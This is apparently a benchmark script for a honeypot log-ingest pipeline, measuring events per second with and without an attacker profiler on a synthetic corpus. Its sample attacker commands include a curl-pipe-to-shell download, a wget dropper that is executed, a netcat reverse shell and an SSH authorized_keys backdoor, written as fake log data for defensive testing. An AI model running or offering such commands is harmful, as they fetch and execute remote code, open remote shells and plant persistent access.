"""What does local profiling cost at ingest? Events/s with and without the profiler.

Builds a mixed corpus (every profiled signal plus plain events, attackers drawn
from a pool so sessions repeat as in real fleets) in bench/out/, ingests it
into fresh stores through the real pipeline, once bare and once with the
profiler, and prints both figures and their ratio. Asserts nothing.

    .venv/bin/python bench/profile_overhead.py [--events N] [--attackers N]
"""

from __future__ import annotations

import argparse
import asyncio
import json
import random
import time
from pathlib import Path

from node.ingest.pipeline import ingest_sources, prompt_gil_handoff
from node.profile.keystrokes import refresh_keystroke_simhashes
from node.profile.profiler import Profiler
from node.store import Store

OUT = Path(__file__).resolve().parent / "out"
JARMS = ("27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d",
         "2ad2ad0002ad2ad00042d42d00000069d641f34fe76acdc05c40262f8815e5")
COMMANDS = ("cat /etc/os-release", "curl -fsSL http://203.0.113.80/i.sh | sh",
            "cd /tmp; wget http://198.51.100.9/x86 -O .x; chmod +x .x; ./.x", "uname -a",
            "nc -e /bin/sh 198.51.100.7 4444", "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys")


def build_corpus(path: Path, events: int, attackers: int) -> None:
    """One line per event; 1/4 of them plain (unprofiled) HTTP requests."""
    rnd = random.Random(7)
    with path.open("w", encoding="utf-8") as out:
        for i in range(events):
            n = rnd.randrange(attackers)
            ip = f"203.0.{n // 250}.{n % 250 + 1}"
            stamp = f"2026-03-02T{i * 24 // events:02d}:{i // 60 % 60:02d}:{i % 60:02d}"
            us = f"{i % 1_000_000:06d}"
            kind = i % 16
            if kind == 0:
                line = (f'<134>1 {stamp}.{us}+00:00 mail-01 smtp - rcpt_to [relay@55555'
                        f' src="{ip}" value="<u{i}@victim{i % 50}.com>"]')
            elif kind == 1:
                line = (f'<134>1 {stamp}.{us}+00:00 web-02 sniffer - tls_client_hello'
                        f' [relay@55555 src_ip="{ip}" ja3="e7d705a3286e19ea42f587b344ee6865"'
                        f' ja4="t13d1517h2_8daaf6152771_b0da82dd1658"]')
            elif kind == 2:
                line = (f'<134>1 {stamp}.{us}+00:00 decnet-prober prober - jarm_fingerprint'
                        f' [relay@55555 target_ip="{ip}" target_port="443"'
                        f' jarm_hash="{rnd.choice(JARMS)}"]')
            elif kind == 3:
                line = (f"<14>1 {stamp}.{us}+00:00 web-02 bash - - -  CMD uid=0 user=root"
                        f" src={ip} pwd=/root cmd={rnd.choice(COMMANDS)}")
            elif kind == 4:
                line = json.dumps({"eventid": "cowrie.login.failed", "username": "root",
                                   "password": str(i % 100), "session": f"s{n}",
                                   "src_ip": ip, "sensor": "hp-east",
                                   "timestamp": f"{stamp}.{us}Z"})
            elif kind == 5:
                line = json.dumps({"eventid": "cowrie.session.file_download",
                                   "url": "http://198.51.100.9/x86", "shasum": "3b1e" * 16,
                                   "session": f"s{n}", "src_ip": ip, "sensor": "hp-east",
                                   "timestamp": f"{stamp}.{us}Z"})
            elif kind == 6:
                line = (f'<134>1 {stamp}.{us}+00:00 decnet-prober prober - ipv6_link_local_leak'
                        f' [relay@55555 target_ip="{ip}" target_port="-"'
                        f' ipv6_addr="fe80::211:22ff:fe33:{n:x}"]')
            elif kind in (7, 8, 9):
                line = json.dumps({"sid": f"sid{i // 400}", "t": round(i % 400 * 0.13, 3),
                                   "ch": "i", "d": chr(97 + i % 26)})
            else:
                line = (f'<134>1 {stamp}.{us}+00:00 web-02 http - http_request [relay@55555'
                        f' src_ip="{ip}" path="/x{i}"]')
            out.write(line + "\n")


async def measure(corpus: Path, *, profiled: bool) -> tuple[float, float]:
    """(events/s of the ingest, seconds of the keystroke SimHash refresh after it)."""
    db = OUT / ("profiled.db" if profiled else "bare.db")
    for suffix in ("", "-wal", "-shm"):
        Path(f"{db}{suffix}").unlink(missing_ok=True)
    store = await Store.open(db, profilers=[Profiler()] if profiled else [])
    try:
        with prompt_gil_handoff():
            report = await ingest_sources(store, [str(corpus)], batch_size=10000,
                                          max_line_bytes=65536)
        started = time.perf_counter()
        if profiled:
            await refresh_keystroke_simhashes(store)
        refresh_s = time.perf_counter() - started
    finally:
        await store.close()
    return report.events_stored / report.elapsed_s, refresh_s


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=300_000)
    parser.add_argument("--attackers", type=int, default=3000)
    args = parser.parse_args()
    OUT.mkdir(exist_ok=True)
    corpus = OUT / "profile-corpus.log"
    build_corpus(corpus, args.events, args.attackers)
    bare, _ = asyncio.run(measure(corpus, profiled=False))
    profiled, refresh_s = asyncio.run(measure(corpus, profiled=True))
    print(f"ingest without profiler: {bare:>10,.0f} events/s")
    print(f"ingest with profiler:    {profiled:>10,.0f} events/s")
    print(f"ratio profiled/bare:     {profiled / bare:>10.2f}")
    print(f"keystroke refresh after: {refresh_s:>10.2f} s")


if __name__ == "__main__":
    main()
